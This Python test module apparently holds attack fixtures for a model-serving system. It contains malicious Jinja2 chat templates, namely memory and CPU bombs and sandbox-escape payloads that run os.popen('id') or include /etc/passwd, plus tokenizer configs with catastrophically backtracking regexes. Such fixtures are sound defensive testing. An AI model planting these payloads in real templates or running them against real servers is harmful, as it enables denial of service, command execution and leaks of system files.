"""What a stranger's chat template or tokenizer might do to whoever serves it."""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any

from tests.attack.checkpoints import Json


def doubled(what: str, times: int = 40) -> str:
    """Sets n.x, and n.y beside it, to something that is `what` again and again; jinja2 has no assignment in loops."""
    return (
        f"{{% set n = namespace(x={what}, y={what}) %}}{{% for i in range({times}) %}}"
        "{% set n.x = [n.x, n.x] %}{% set n.y = [n.y, n.y] %}{% endfor %}"
    )


TEXT = "{% set n = namespace(x='ab ') %}{% for i in range(18) %}{% set n.x = n.x + n.x %}{% endfor %}"
"""n.x is 786,432 characters"""
TEMPLATES: dict[str, str] = {
    # two lists that share their halves, forty levels deep: little memory, 2**40 comparisons
    "equal": doubled("[1]") + "{{ n.x == n.y }}",
    "not equal": doubled("[1]") + "{{ n.x != n.y }}",
    "less": doubled("[1]") + "{{ n.x < n.y }}",
    "in": doubled("[1]") + "{{ n.x in [n.y] }}",
    "count": doubled("[1]") + "{{ [n.y].count(n.x) }}",
    "index": doubled("[1]") + "{{ [n.y].index(n.x) }}",
    "sort": doubled("[1]") + "{{ [n.x, n.y] | sort }}",
    "max": doubled("[1]") + "{{ [n.x, n.y] | max }}",
    "tests": doubled("[1]") + "{{ n.x is eq(n.y) }}",
    "select": doubled("[1]") + "{{ [n.x] | select('eq', n.y) | list | length }}",
    "print": doubled("1") + "{{ n.x }}",
    "string": doubled("1") + "{{ n.x | string | length }}",
    "tojson": doubled("1") + "{{ n.x | tojson }}",
    "pprint": doubled("1") + "{{ n.x | pprint }}",
    "hash": "{% set n = namespace(x=(1,)) %}{% for i in range(60) %}{% set n.x = (n.x, n.x) %}{% endfor %}"
    "{{ {n.x: 1} }}",
    "sum": doubled("[1]", 24) + "{{ [[n.x, n.x]] | sum(start=[]) | string | length }}",
    "concatenated lists": "{% set n = namespace(x=[1]) %}{% for i in range(60) %}{% set n.x = n.x + n.x %}{% endfor %}",
    "concatenated text": "{% set n = namespace(x='a') %}{% for i in range(60) %}{% set n.x = n.x + n.x %}{% endfor %}",
    "joined text": "{% set n = namespace(x='a') %}{% for i in range(60) %}{% set n.x = n.x ~ n.x %}{% endfor %}",
    "squared": "{% set n = namespace(x=9**99) %}{% for i in range(60) %}{% set n.x = n.x * n.x %}{% endfor %}{{ n.x }}",
    # one call
    "round": "{{ 1 | round(10**9, 'ceil') }}",
    "round down": "{{ 1 | round(10**9, 'floor') }}",
    "power": "{{ 2 ** 64 ** 64 ** 64 }}",
    "power of three": "{{ 3 ** 10**8 }}",
    "power filter": "{{ (10 ** 10**7) | string | length }}",
    "repetition": "{{ 'a' * 10**10 }}",
    "repetition of a list": "{{ [0] * 10**10 }}",
    "slice": "{{ [1] | slice(10**9) | list | length }}",
    "batch": "{{ [1] | batch(10**9, 0) | list | length }}",
    "join": TEXT + "{{ range(9999) | join(n.x) | length }}",
    "join of a method": TEXT + "{{ n.x.join(n.x) | length }}",
    "expandtabs": "{{ '\\t'.expandtabs(10**10) | length }}",
    "ljust": "{{ 'a'.ljust(10**10) | length }}",
    "rjust": "{{ 'a'.rjust(10**10) | length }}",
    "center": "{{ 'a'.center(10**10) | length }}",
    "center filter": "{{ 'a' | center(10**10) | length }}",
    "zfill": "{{ 'a'.zfill(10**10) | length }}",
    "format": "{{ '{:>9999999999}'.format(1) | length }}",
    "format with a width": "{{ '{:>{w}}'.format(1, w=10**10) | length }}",
    "format filter": "{{ '%9999999999d' | format(1) | length }}",
    "percent": "{{ '%9999999999d' % 1 }}",
    "percent star": "{{ '%*d' % (10**10, 1) }}",
    "precision": "{{ '%.2000000000f' % 0.1 }}",
    "replace": TEXT + "{{ n.x.replace('', n.x) | length }}",
    "replace filter": TEXT + "{{ n.x | replace('a', n.x) | length }}",
    "bytes": TEXT + "{{ n.x.encode().replace('a'.encode(), n.x.encode()) | length }}",
    "indent": TEXT + "{{ n.x | replace(' ', '\\n') | indent(10**6) | length }}",
    "wordwrap": TEXT + "{{ n.x | wordwrap(1) | length }}",
    "wordwrap with text": TEXT + "{{ n.x | wordwrap(1, true, n.x) | length }}",
    "urlize": TEXT + "{{ ('www.' + n.x) | replace(' ', '.') | urlize | length }}",
    "striptags": "{{ ('<' * 4000000) | striptags | length }}",
    "title": TEXT + "{% for i in range(9999) %}{{ n.x | title | length }}{% endfor %}",
    "splits": TEXT + "{% for i in range(9999) %}{{ n.x.split() | length }}{% endfor %}",
    "truncate": TEXT + "{% for i in range(9999) %}{{ n.x | truncate(9999999) | length }}{% endfor %}",
    "digits": "{{ ('9' * 4000000) | int }}",
    "integer of text": "{{ 'a'.encode('utf-8') | string }}{{ ('f' * 9000000) | int(0, 16) }}",
    "range": "{{ range(10**9) | list | length }}",
    "range of ranges": "{{ range(10**9) | map('string') | join | length }}",
    "sum of a range": "{{ range(10**11) | sum }}",
    "last of a range": "{% for i in range(10**11) %}{% endfor %}",
    "lipsum": "{{ lipsum(n=10**6) }}",
    "dates": "{{ strftime_now('%9999999999Y') }}",
    "many dates": "{{ strftime_now('%c' * 4000000) | length }}",
    "unpacked": "{{ dict(**{}) }}{{ [1].extend(range(10**9)) }}",
    "groups": "{{ range(9999999) | groupby('real') | length }}",
    "unique": "{{ range(99999999) | unique | list | length }}",
    "dictsort": "{{ dict.fromkeys(range(9999999)) | dictsort | length }}",
    # loops and recursion
    "loops in loops": "{% for a in range(9999) %}{% for b in range(9999) %}{% for c in range(9999) %}"
    "{% endfor %}{% endfor %}{% endfor %}",
    "much text": "{% for i in range(99999) %}" + "x" * 1000 + "{% endfor %}",
    "text of loops": "{% for i in range(9999) %}{% for j in range(9999) %}xxxxxxxxxx{% endfor %}{% endfor %}",
    "macro": "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(60) }}",
    "endless macro": "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
    "caller": "{% macro f() %}{{ caller() }}{{ caller() }}{% endmacro %}"
    + "{% call f() %}" * 25
    + "x" * 100
    + "{% endcall %}" * 25,
    "recursive loop": "{% for a in [[[[]]]] * 99 recursive %}{{ loop(a * 9) }}{% endfor %}",
    "filter blocks": "{% filter replace('a', 'aaaaaaaaaa') %}" * 15 + "a" + "{% endfilter %}" * 15,
    "cycler": "{% set c = cycler(1) %}{% for i in range(10**11) %}{{ c.next() }}{% endfor %}",
    "a budget of its own": "{% set _budget = none %}{% for i in range(10**11) %}{% endfor %}",
    # ways out
    "classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "classes by a filter": "{{ '' | attr('__class__') }}",
    "classes by format": "{{ '{0.__class__.__mro__}'.format(messages) }}",
    "globals": "{{ raise_exception.__globals__ }}",
    "globals of a helper": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "globals of a namespace": "{{ namespace.__init__.__globals__['sys'].exit(3) }}",
    "the template itself": "{{ self._TemplateReference__context.environment }}",
    "a file": "{% include '/etc/passwd' %}",
    "a module": "{% import 'os' as os %}{{ os.getcwd() }}",
    "mutation": "{{ messages.append(messages) }}{{ messages }}",
    "clearing": "{{ messages.clear() }}",
    "a message of a megabyte": "{{ raise_exception('x' * 1000000) }}",
    "a message of lines": "{{ raise_exception('\\r\\n\\x1b[31m' * 100) }}",
    "an exception": "{{ 1 / 0 }}",
    "a wrong type": "{{ [] + 1 }}",
}
_FIRST = "{%- set which = messages[-1].content -%}"
_PLAIN = "{{ bos_token }}{% for m in messages %}<|user|>{{ m.content }}<|end|>{% endfor %}<|assistant|>"


def loaded(templates: dict[str, str]) -> str:
    """One template that holds them all: which of them goes off is what the last message says."""
    parts = [f"{{%- if which == {name!r} -%}}{bomb}{{%- endif -%}}" for name, bomb in templates.items()]
    return _FIRST + "".join(parts) + _PLAIN


UNUSABLE = {
    "thirty loops": "{% for a in b %}" * 30 + "{% endfor %}" * 30,
    "ten thousand brackets": "{{ " + "(" * 10_000 + "1" + ")" * 10_000 + " }}",
    "a constant": "{{ 'a' * 10**11 }}",
    "a constant power": "{{ 9 ** 9 ** 9 ** 9 }}",
    "ten megabytes": "x" * 10_000_000,
    "nonsense": "{% for %}{{",
    "a bomb for everybody": "{% for a in range(10**6) %}{% for b in range(10**6) %}{% endfor %}{% endfor %}",
}
"""templates that no request survives, or that do not compile: a sentence at start"""


def _normalizer(*steps: Json) -> Callable[[Json], Json]:
    return lambda tokenizer: tokenizer | {"normalizer": {"type": "Sequence", "normalizers": list(steps)}}


def _pre_tokenizer(pattern: str) -> Callable[[Json], Json]:
    split = {"type": "Split", "pattern": {"Regex": pattern}, "behavior": "Isolated", "invert": False}
    return lambda tokenizer: tokenizer | {"pre_tokenizer": split}


def _control_token(**more: Any) -> Callable[[Json], Json]:
    return lambda tokenizer: (
        tokenizer | {"added_tokens": [*tokenizer["added_tokens"], tokenizer["added_tokens"][0] | {"id": 2048} | more]}
    )


DOUBLING = _normalizer(*({"type": "Replace", "pattern": {"String": "z"}, "content": "zz"} for _ in range(40)))
BACKTRACKING = _pre_tokenizer(r"(?:x|x|x)+$")
TOKENIZERS: dict[str, tuple[Callable[[Json], Json], str]] = {
    "a normalizer that doubles": (DOUBLING, "fuzz"),
    "a normalizer that adds": (
        _normalizer({"type": "Replace", "pattern": {"Regex": "z"}, "content": "z" * 10**7}),
        "zzzz" * 99,
    ),
    "a pattern that backtracks": (BACKTRACKING, "x" * 60 + "!"),
    "a pattern in a pattern": (_pre_tokenizer(r"(a*)*b|(a|aa)+$"), "a" * 60 + "!"),
    "a pattern that looks back": (_pre_tokenizer(r"(.*)*\1(.*)*\2!$"), "ab" * 400),
}
"""how the demo's tokenizer changes, and a text that sets it off"""
UNLOADABLE: dict[str, Callable[[Json], Json]] = {
    "a control token of 60 KB": _control_token(content="<|" + "x" * 60_000 + "|>"),
    "a control token far away": _control_token(content="<|far|>", id=2**31),
    "a map of characters that is none": _normalizer(
        {"type": "Precompiled", "precompiled_charsmap": base64.b64encode(b"\x04\0\0\0\xff\xff\xff\xff").decode()}
    ),
    "an empty pattern": _pre_tokenizer(""),
    "a pattern without an end": _pre_tokenizer("(" * 5000),
    "no model": lambda tokenizer: tokenizer | {"model": {}},
    "another model": lambda tokenizer: tokenizer | {"model": {"type": "Unigram", "vocab": [], "unk_id": 7}},
    "merges of nothing": lambda tokenizer: tokenizer | {"model": tokenizer["model"] | {"merges": ["a b", "\0 \0"]}},
    "a decoder without an end": lambda tokenizer: (
        tokenizer
        | {"decoder": {"type": "Sequence", "decoders": [{"type": "Replace", "pattern": {"Regex": ""}, "content": "x"}]}}
    ),
}
"""tokenizers that end the start with a sentence, or load and do no harm"""
